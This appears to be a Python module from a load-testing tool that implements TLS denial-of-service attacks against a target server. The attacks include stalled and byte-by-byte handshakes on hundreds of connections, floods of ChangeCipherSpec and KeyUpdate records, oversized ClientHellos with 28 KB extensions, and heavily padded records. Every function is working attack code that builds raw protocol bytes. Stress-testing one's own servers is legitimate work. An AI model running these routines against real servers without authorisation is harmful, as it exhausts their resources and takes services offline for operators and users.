"""The attacks on TLS. The docstring of each attack describes the bytes that it sends."""

from __future__ import annotations

import itertools
import ssl
from collections.abc import Callable

from loadtest.attacks import frames
from loadtest.attacks.attacker import Attacker, repeated
from loadtest.attacks.http1_cases import dribble
from loadtest.attacks.tls_records import DATA, Records
from loadtest.tls import client_context

# The beginning of a TLS handshake: its ClientHello announces 512 bytes and holds only 50.
_BEGUN_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(50)


def handshakes(attacker: Attacker) -> None:
    """Begins TLS handshakes on 300 connections, and sends nothing after their first bytes."""
    _hellos(attacker, _BEGUN_HELLO)


def _hellos(attacker: Attacker, begun: bytes) -> None:
    """Sends the first bytes of a TLS handshake on 300 connections; waits until the server closes all connections."""
    conns = [conn for _ in range(300) if not attacker.is_over and (conn := attacker.connect(is_raw=True))]
    for conn in conns:
        conn.send([begun], attacker.end_s)
    attacker.until_closed(conns)


def whole_handshakes(attacker: Attacker) -> None:
    """Makes complete TLS handshakes one after another, and closes each connection without a request."""
    while not attacker.is_over:
        conn = attacker.connect()
        if conn is not None:
            conn.end()


def change_cipher_specs(attacker: Attacker) -> None:
    """Sends the first bytes of a TLS handshake, and then records of the type ChangeCipherSpec without pause."""
    attacker.flood(
        itertools.chain([_BEGUN_HELLO], repeated(b"\x14\x03\x03\x00\x01\x01")), attacker.connect(is_raw=True)
    )


def large_hellos(attacker: Attacker) -> None:
    """Sends the first 60 KB of a ClientHello of 65 KB on each of 300 connections, and never the rest."""
    hello = b"\x01\x00\xfe\x00\x03\x03" + bytes(60_000)
    parts = [hello[at : at + 16384] for at in range(0, len(hello), 16384)]
    _hellos(attacker, b"".join(b"\x16\x03\x01" + len(part).to_bytes(2) + part for part in parts))


def slow_handshakes(attacker: Attacker) -> None:
    """Opens 200 connections on which TLS handshakes arrive byte by byte."""
    dribble(attacker, _BEGUN_HELLO[:6], b"\0", is_raw=True)


def hellos_at_once(attacker: Attacker) -> None:
    """Sends valid ClientHellos on 300 connections at once, closes them after the answers, and begins again."""
    hello = _client_hello(attacker)
    while not attacker.is_over:
        conns = [conn for _ in range(300) if not attacker.is_over and (conn := attacker.connect(is_raw=True))]
        for conn in conns:
            conn.send([hello], attacker.end_s)
        for conn in conns:
            conn.answer(attacker.end_s)
            conn.end()


def _client_hello(attacker: Attacker) -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = client_context("h2" if attacker.target.wire == "http2" else "http/1.1").wrap_bio(incoming, outgoing)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()
    raise AssertionError("a client waits for the server's part of the handshake")


def _listed(item: bytes, size: int) -> bytes:
    items = item * (size // len(item))
    return len(items).to_bytes(2) + items


# Extensions of a ClientHello with 28 KB each. Source: RFC 8446, 4.2, RFC 6066, 3, and RFC 7301, 3.1.
_LONG_EXTENSIONS = {
    "names": (0, _listed(b"\0\0\1a", 28_000)),
    "name": (0, (28_003).to_bytes(2) + b"\0" + (28_000).to_bytes(2) + b"a" * 28_000),
    "odd name": (0, (28_003).to_bytes(2) + b"\0" + (28_000).to_bytes(2) + b"\xff" * 28_000),
    "protocols": (16, _listed(b"\1h", 28_000)),
    "groups": (10, _listed(b"\x6a\x6a", 28_000)),
    "algorithms": (13, _listed(b"\x08\x04", 28_000)),
    "shares": (51, _listed(b"\x6a\x6a\0\1x", 28_000)),
    "identities": (41, _listed(b"\0\1x\0\0\0\0", 21_000) + _listed(b"\x20" + bytes(32), 7_000)),
}


def odd_hellos(attacker: Attacker) -> None:
    """Sends ClientHellos with an extension of 28 KB: server names, protocols, groups, algorithms, keys or tickets."""
    hellos = itertools.cycle([_hello(number, data) for number, data in _LONG_EXTENSIONS.values()])
    while not attacker.is_over:
        conn = attacker.connect(is_raw=True)
        if conn is not None:
            conn.send([next(hellos)], attacker.end_s)
            conn.answer(attacker.end_s)
            conn.end()


def _hello(number: int, data: bytes) -> bytes:
    versions = b"\0\x2b\0\3\2\3\4"
    key_share = (
        b"" if number == 51 else b"\0\x33" + (38).to_bytes(2) + (36).to_bytes(2) + b"\0\x1d\0\x20" + b"\x09" * 32
    )
    extensions = versions + key_share + number.to_bytes(2) + len(data).to_bytes(2) + data
    body = b"\3\3" + bytes(32) + b"\0" + _listed(b"\x13\1", 2) + b"\1\0" + len(extensions).to_bytes(2) + extensions
    message = b"\1" + len(body).to_bytes(3) + body
    parts = [message[at : at + 16384] for at in range(0, len(message), 16384)]
    return b"".join(b"\x16\3\1" + len(part).to_bytes(2) + part for part in parts)


def key_updates(attacker: Attacker) -> None:
    """Sends messages that change the keys of a TLS connection, with an empty record of data after every 30 messages."""
    _flood_records(attacker, lambda records: [records.key_update() for _ in range(30)] + [records.record(DATA, b"")])


def padded_records(attacker: Attacker) -> None:
    """Sends TLS records of 16 KB that each hold one byte of data and padding."""
    _flood_records(attacker, lambda records: [records.record(DATA, b"x", padding=16_000)])


def _flood_records(attacker: Attacker, pieces: Callable[[Records], list[bytes]]) -> None:
    """Sends records on one connection until the server closes it or the time is over.

    Args:
      pieces: returns the next records.
    """
    target = attacker.target
    if target.wire == "http2":
        opening = frames.PREFACE + frames.settings() + target.open_request(1)
    else:
        opening = target.head() + b"x: "
    conn = attacker.connect(is_raw=True)
    if conn is not None:
        records = conn.handshake(attacker.end_s)
        chunks = (
            b"".join(itertools.chain.from_iterable(pieces(records) for _ in range(20))) for _ in itertools.count()
        )
        conn.send(itertools.chain([records.record(DATA, opening)], chunks), attacker.end_s)
